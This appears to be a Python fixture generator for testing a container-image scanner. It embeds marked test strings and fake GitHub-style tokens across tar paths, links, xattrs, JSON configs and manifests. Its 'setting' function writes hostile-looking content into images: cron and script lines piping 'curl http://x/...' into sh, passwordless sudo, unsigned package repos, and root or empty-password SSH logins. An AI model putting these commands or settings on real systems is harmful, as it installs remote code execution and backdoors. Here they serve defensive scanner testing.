"""Bundles with strings in one position of an image, each string between marks that tell which it is.

A position is a function of the strings that gives the bytes of a bundle. What must be seen of each string in the report
is between `open_mark` and `close_mark`.
"""

import hashlib
import json
import os
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "flow", "recipes"))

import recipe  # noqa: E402
import tarwriter  # noqa: E402
import strings  # noqa: E402


# Every token has these in it, and nothing else has: what is found of them is a part of a token.
PARTS = ("x9Kq2LmH", "W4tR8zNb")


def token(number):
    """A token of its own for each string, so that each is a finding of its own."""
    middle = recipe.letters("naughty %d" % number, 30 - sum(map(len, PARTS)))
    return recipe.checked("ghp_", body=PARTS[0] + middle + PARTS[1]).encode()


def marked(number, string):
    return b"{%d|" % number + string + b"|%d}" % number


def marked_text(number, string):
    """The same for a JSON document."""
    return "{%d|%s|%d}" % (number, strings.as_json(string), number)


def digest(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


def long_name(type_flag, name):
    """A GNU header with a name of more than 100 bytes for the entry behind it. (Those of PAX are text, and readers
    differ about what they do with bytes that are none.)"""
    if len(name) <= 100:
        return b""
    return (tarwriter.header(b"././@LongLink", type_flag, size=len(name) + 1, magic=b"ustar  \0")
            + tarwriter.padded(name + b"\0"))


def entry(path, body=b"", type_flag=b"0", link=b"", xattrs=None, mode=0o644):
    """An entry whose names are there byte by byte, however long they are."""
    return (long_name(b"K", link) + long_name(b"L", path) + (tarwriter.pax(xattrs) if xattrs else b"")
            + tarwriter.header(path[:100], type_flag, mode, len(body), link[:100]) + tarwriter.padded(body))


def layer(*entries):
    return b"".join(entries) + tarwriter.END


PLAIN_LAYER = layer(entry(b"x", b"x"))


class Image:
    """An image of one layer. `config` and `root` are JSON."""

    def __init__(self, tar=PLAIN_LAYER, config=None, root=None, history=None, tags=("x:1",), made_by="COPY x /x"):
        self.layer, self.tags = tar, list(tags)
        self.config = json.dumps({
            "architecture": "amd64", "os": "linux", "config": config or {},
            "history": (history or []) + [{"created_by": made_by}],
            "rootfs": {"type": "layers", "diff_ids": [digest(tar)]}, **(root or {})}).encode()

    def members(self):
        return {digest(self.layer)[7:] + ".tar": self.layer, digest(self.config)[7:] + ".json": self.config}

    def manifest(self):
        return {"Config": digest(self.config)[7:] + ".json", "RepoTags": self.tags,
                "Layers": [digest(self.layer)[7:] + ".tar"]}


def bundle(images, strays=()):
    """A docker archive; `strays` are more members, as names and bodies."""
    members = {name: body for image in images for name, body in image.members().items()}
    manifest = json.dumps([image.manifest() for image in images]).encode()
    return layer(*(entry(name, body) for name, body in strays),
                 *(entry(name.encode(), body) for name, body in members.items()), entry(b"manifest.json", manifest))


# ---- Names in a layer ---------------------------------------------------------------------------------------------


def without_nul(numbered):
    return [(number, string) for number, string in numbered if b"\0" not in string]


def path(numbered):
    return bundle([Image(layer(*(entry(b"p/" + marked(number, string), token(number))
                                 for number, string in without_nul(numbered))))])


def hardlink(numbered):
    entries = [entry(b"p/%d" % number, token(number)) + entry(b"q/" + marked(number, string), type_flag=b"1",
                                                              link=b"p/%d" % number)
               for number, string in without_nul(numbered)]
    return bundle([Image(layer(*entries))])


def hardlink_target(numbered):
    entries = [entry(b"p/" + marked(number, string), token(number)) + entry(b"q/%d" % number, type_flag=b"1",
                                                                            link=b"p/" + marked(number, string))
               for number, string in without_nul(numbered)]
    return bundle([Image(layer(*entries))])


def symlink_target(numbered):
    return bundle([Image(layer(*(entry(b"p/%d" % number, type_flag=b"2",
                                       link=marked(number, string) + b"/" + token(number))
                                 for number, string in without_nul(numbered))))])


def xattr_name(numbered):
    return bundle([Image(layer(*(entry(b"p/%d" % number, b"x", xattrs={
        b"SCHILY.xattr.user." + marked(number, string).replace(b"=", b"_"): token(number)})
                                 for number, string in without_nul(numbered))))])


def inner_path(numbered):
    inner = layer(*(entry(b"i/" + marked(number, string), token(number)) for number, string in without_nul(numbered)))
    return bundle([Image(layer(entry(b"opt/inner.tar", inner)))])


def git_path(numbered):
    entries = []
    for number, string in without_nul(numbered):
        blob = b"blob %d\0" % len(token(number)) + token(number)
        name = hashlib.sha1(blob).hexdigest().encode()
        entries.append(entry(b"p/" + marked(number, string) + b"/.git/objects/" + name[:2] + b"/" + name[2:],
                             zlib.compress(blob)))
    return bundle([Image(layer(*entries))])


def sealed_member(numbered):
    """Members of a zip that are encrypted: their names stand in the gaps."""
    def local(name):
        return (b"PK\3\4\x14\0\1\0\0\0\0\0\0\0\0\0\0\0" + (20).to_bytes(4, "little") * 2
                + len(name).to_bytes(2, "little") + b"\0\0" + name + bytes(20))

    return bundle([Image(layer(*(entry(b"z/%d.zip" % number, local(marked(number, string)))
                                 for number, string in numbered if len(string) < 60000)))])


# ---- What small files say -----------------------------------------------------------------------------------------


def account(numbered):
    lines = b"".join(marked(number, string) + b":x:0:0:" + string + b":/:/bin/sh\n" for number, string in numbered)
    return bundle([Image(layer(entry(b"etc/passwd", b"root:x:0:0::/:/bin/sh\n" + lines)))])


def setting(numbered):
    """Facts of small files, the string in the place of a word."""
    def files(number, string):
        word = marked(number, string)
        return {b"etc/sudoers.d/%d" % number: word + b" ALL=(ALL) NOPASSWD: ALL\n",
                b"etc/cron.d/%d" % number: b"* * * * * root curl http://x/" + word + b" | sh\n",
                b"etc/apt/sources.list.d/%d.list" % number: b"deb [trusted=yes] http://" + word + b" x y\n",
                b"etc/yum.repos.d/%d.repo" % number: b"[a]\nbaseurl=http://" + word + b"\ngpgcheck=0\nenabled=1\n",
                b"etc/ssh/sshd_config.d/%d.conf" % number: b"PermitRootLogin yes # " + word + b"\nMatch User "
                + word + b"\nPermitEmptyPasswords yes\n",
                b"root/.ssh/%d/authorized_keys" % number: b"command=\"" + word + b"\" ssh-ed25519 AAAA " + word + b"\n",
                b"opt/%d/.env" % number: b"PASSWORD_" + word + b"=Tr0ub4dor&3xK\n",
                b"opt/%d.sh" % number: b"#!" + word + b"\nexec " + word + b"\ncurl http://x/" + word + b" | sh\n"}

    return bundle([Image(layer(*(entry(name, body, mode=0o755) for number, string in numbered
                                 for name, body in files(number, string).items())))])


def distribution(numbered):
    """One image for each string: /etc/os-release is read once of an image."""
    def release(number, string):
        word = b'"%s"' % marked(number, string).replace(b"\\", b"\\\\").replace(b'"', b'\\"')
        return (b"ID=debian\nVERSION_ID=" + [b"8." + string, word][number % 2] + b"\nNAME=" + word
                + b"\nPRETTY_NAME=" + word + b"\n")

    return bundle([Image(layer(entry(b"etc/os-release", release(number, string))), tags=["x:%d" % number])
                   for number, string in numbered])


def package(numbered):
    status = b"".join(b"Package: " + marked(number, string) + b"\nStatus: install ok installed\nVersion: 1\n\n"
                      for number, string in numbered)
    entries = [entry(b"var/lib/dpkg/status", status)]
    for number, string in without_nul(numbered):
        body = token(number)
        if b"/" not in string:
            entries += [entry(b"p/%d" % number, body),
                        entry(b"var/lib/dpkg/info/" + marked(number, string) + b".md5sums",
                              hashlib.md5(body).hexdigest().encode() + b"  p/%d\n" % number)]
    return bundle([Image(layer(*entries), history=[])])


# ---- The bundle ---------------------------------------------------------------------------------------------------


def member(numbered):
    return bundle([Image()], [(marked(number, string), token(number)) for number, string in without_nul(numbered)])


def of_json(numbered):
    return [(number, string) for number, string in numbered if strings.as_json(string) is not None]


def broken_document(numbered):
    """JSON that ends in the string: what is wrong with it is told."""
    return bundle([Image()], [(b"blobs/sha256/%d" % number, b'{"schemaVersion":2,"config":{},"layers":[' + string)
                              for number, string in numbered])


def without_any_nul(numbered):
    return [(number, string) for number, string in of_json(numbered) if b"\0" not in string]


def twin_keys(numbered):
    """Keys that collide are quoted."""
    image = Image()
    twins = "".join(",%s:1,%s:2" % (key, key) for key in (json.dumps(marked_text(number, string))
                                                          for number, string in without_any_nul(numbered)))
    image.config = image.config[:-1] + twins.encode() + b"}"
    return bundle([image])


def manifest_words(numbered):
    """manifest.json names configs, layers and tags that are not there."""
    rows = [{"Config": marked_text(number, string), "RepoTags": [marked_text(number, string)],
             "Layers": [marked_text(number, string)]} for number, string in of_json(numbered)]
    return layer(entry(b"manifest.json", json.dumps(rows).encode()))


def index_words(numbered):
    manifests = [{"mediaType": marked_text(number, string), "digest": "sha256:" + marked_text(number, string),
                  "size": 1, "platform": {"os": marked_text(number, string), "architecture": "x"},
                  "annotations": {marked_text(number, string): marked_text(number, string),
                                  "org.opencontainers.image.ref.name": marked_text(number, string)}}
                 for number, string in without_any_nul(numbered)]
    return layer(entry(b"oci-layout", b'{"imageLayoutVersion":"1.0.0"}'),
                 entry(b"index.json", json.dumps({"schemaVersion": 2, "manifests": manifests}).encode()))


# ---- The config ---------------------------------------------------------------------------------------------------


def tag(numbered):
    return bundle([Image(tags=[marked_text(number, string) for number, string in of_json(numbered)])])


def env_name(numbered):
    return bundle([Image(config={"Env": [marked_text(number, string) + "=" + token(number).decode()
                                         for number, string in of_json(numbered)]})])


def env_value(numbered):
    return bundle([Image(config={"Env": ["A%d=%s" % (number, marked_text(number, string) + token(number).decode())
                                         for number, string in of_json(numbered)]})])


def label(numbered):
    return bundle([Image(config={"Labels": {
        marked_text(number, string): marked_text(number, string) + token(number).decode()
        for number, string in without_any_nul(numbered)}})])


def command(numbered):
    words = [marked_text(number, string) for number, string in of_json(numbered)]
    return bundle([Image(config={"Entrypoint": words, "Cmd": words, "Shell": words, "OnBuild": words,
                                 "Healthcheck": {"Test": ["CMD"] + words}, "StopSignal": words[0]})])


def volume(numbered):
    words = {marked_text(number, string): {} for number, string in without_any_nul(numbered)}
    return bundle([Image(config={"Volumes": {"/" + word: {} for word in words}, "ExposedPorts": words,
                                 "Env": ["PATH=" + ":".join(words)]})])


def history(numbered):
    return bundle([Image(history=[{"created_by": "RUN " + marked_text(number, string) + token(number).decode(),
                                   "comment": marked_text(number, string), "author": marked_text(number, string),
                                   "created": marked_text(number, string), "empty_layer": True}
                                  for number, string in of_json(numbered)])])


def user(numbered):
    """One image for each string."""
    def image(number, text):
        return Image(config={"User": text, "WorkingDir": text}, root={"created": text, "author": text},
                     made_by="RUN " + text, tags=["x:%d" % number])

    return bundle([image(number, marked_text(number, string)) for number, string in of_json(numbered)])


# ---- What the report must show of each -----------------------------------------------------------------------------


def cleaned(path):
    """As Docker cleans a path: no empty names, no dots, nothing above the root."""
    names = []
    for name in path.split(b"/"):
        if name == b"..":
            names = names[:-1]
        elif name not in (b"", b"."):
            names.append(name)
    return b"/".join(names)


def in_path(prefix):
    def shown(number, string):
        path = prefix + marked(number, string)
        fits = b"\0" not in string and all(len(name) <= 255 for name in path.split(b"/"))
        return cleaned(path) if fits else None
    return shown


def in_archive(number, string):
    return None if b"\0" in string or len(string) > 4000 else marked(number, string)


def in_json(number, string):
    """A surrogate that is not one of a pair is what Go makes of it."""
    text = strings.as_json(string)
    if text is None:
        return None
    text = json.loads(json.dumps(text))
    return marked(number, "".join("\ufffd" if "\ud800" <= c <= "\udfff" else c for c in text).encode())


def short(shown, without=b""):
    """Texts that are cut show what is short, whatever it takes to escape it."""
    def shown_if_short(number, string):
        is_whole = len(marked(number, string)) <= 15 and not any(byte in string for byte in without)
        return shown(number, string) if is_whole else None
    return shown_if_short


def in_key(number, string):
    return None if b"\0" in string else in_json(number, string)


# By name: what makes the bundle, and what must be found in the report of a string, if it is told at all.
POSITIONS = {
    "account": (account, short(marked, b":\n\0")), "broken_document": (broken_document, None),
    "command": (command, None), "distribution": (distribution, None), "env_name": (env_name, short(in_json, b"=")),
    "env_value": (env_value, None), "git_path": (git_path, in_path(b"p/")),
    "hardlink": (hardlink, None), "hardlink_target": (hardlink_target, in_path(b"p/")), "history": (history, None),
    "index_words": (index_words, None), "inner_path": (inner_path, in_archive), "label": (label, short(in_key)),
    "manifest_words": (manifest_words, in_json), "member": (member, in_path(b"")), "package": (package, None),
    "path": (path, in_path(b"p/")), "sealed_member": (sealed_member, None), "setting": (setting, None),
    "symlink_target": (symlink_target, None), "tag": (tag, in_json), "twin_keys": (twin_keys, None),
    "user": (user, in_json), "volume": (volume, None), "xattr_name": (xattr_name, short(marked, b"=\n\0")),
}
